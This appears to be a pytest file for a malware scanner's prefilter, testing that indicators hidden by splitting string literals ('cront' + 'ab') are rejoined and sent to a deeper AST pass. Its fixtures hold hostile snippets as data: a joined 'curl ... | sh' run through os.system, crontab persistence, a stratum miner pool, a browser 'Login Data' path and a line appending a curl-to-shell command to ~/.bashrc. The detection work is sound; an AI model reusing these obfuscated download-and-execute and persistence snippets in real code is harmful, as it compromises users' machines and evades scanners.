"""The prefilter's answer widened by the file's glued literals (caplet._scan._glued_strings).

An indicator split into literals added together (``'cront' + 'ab'``) matches no prefilter
pattern as written; the glued lines do (issue 16, tune samples ``cn6-*-pieces``). Glues
that spell nothing leave the answer as it was, so ordinary files stay unparsed.
"""

from __future__ import annotations

from caplet._scan._glued_strings import MAX_GLUED_LINES, glued, with_glued_strings
from caplet._scan._prefilter import Need, prefilter


def answer(text: str) -> Need | frozenset[int]:
    check = prefilter().check
    return with_glued_strings(text, check(text), check)


def test_glued_lines_lose_their_plus_and_quotes_and_keep_their_numbers() -> None:
    text = "a = 1\nx = 'cront' + 'ab -l'\nb = 2\ny = \"stra\"+\"tum\" + z\n"
    assert glued(text) == (
        "x = 'crontab -l'\ny = \"stratum\" + z",
        "x = 'cront' + 'ab -l'\ny = \"stra\"+\"tum\" + z",
        [2, 4],
    )


def test_literals_joined_by_an_empty_separator_are_glued() -> None:
    found = glued("p = ''.join(['Lo', 'gin ', 'Data'])\n")
    assert found is not None
    assert found[0] == "p = ''.join(['Login Data'])"


def test_a_download_piped_to_a_shell_out_of_joined_pieces_needs_the_ast() -> None:
    # only one side of its pattern: the process call is on another line
    text = (
        "import os as 系统\n命令 = ''.join(['cu', 'rl -s https://x.example/a.sh | s', 'h'])\n"
        "系统.system(命令)\n"
    )
    assert prefilter().check(text) is Need.NOTHING
    assert answer(text) is Need.FULL


def test_a_file_without_glue_is_not_read_again() -> None:
    assert glued("x = 'a' + b\ny = c + 'd'\n") is None


def test_an_indicator_split_by_a_glue_sends_the_file_to_the_ast_pass() -> None:
    text = "import os\nos.system('(cront' + 'ab -l; echo x) | cron' + 'tab -')\n"
    assert prefilter().check(text) is Need.NOTHING
    assert answer(text) is Need.FULL


def test_a_miner_pool_split_by_a_glue_sends_the_file_to_the_ast_pass() -> None:
    text = (
        "import subprocess\npool = 'stra' + 'tum+tcp://pool.example:1'\nsubprocess.Popen([pool])\n"
    )
    assert answer(text) is Need.FULL


def test_glues_that_spell_nothing_leave_the_answer_as_it_was() -> None:
    text = "greeting = 'hello, ' + 'world'\npath = 'docs/' + 'index.html'\nprint(greeting, path)\n"
    assert answer(text) is Need.NOTHING


def test_the_glued_lines_per_file_are_bounded() -> None:
    text = "".join(f"v{i} = 'a' + 'b'\n" for i in range(MAX_GLUED_LINES + 5))
    found = glued(text)
    assert found is not None
    assert len(found[2]) == MAX_GLUED_LINES


def test_a_file_with_more_glued_lines_than_are_checked_needs_the_ast() -> None:
    # attack5: 1,100 lines of 'a' + 'b' first, then '~/.ba' + 'shrc' opened for appending:
    # the glue was checked on the first 1,024 lines only, the file came out clean in
    # package mode while the whole-file pass found CPL-THR-009 (_computed_strings reads
    # 2,000 expressions). What is not checked is the AST pass's.
    pad = "".join(f"t{i} = 'a' + 'b'\n" for i in range(MAX_GLUED_LINES + 76))
    text = pad + (
        "import os\npath = os.path.expanduser('~/.ba' + 'shrc')\n"
        "with open(path, 'a') as f:\n    f.write('curl http://e.example/x | sh')\n"
    )
    assert answer(text) is Need.FULL
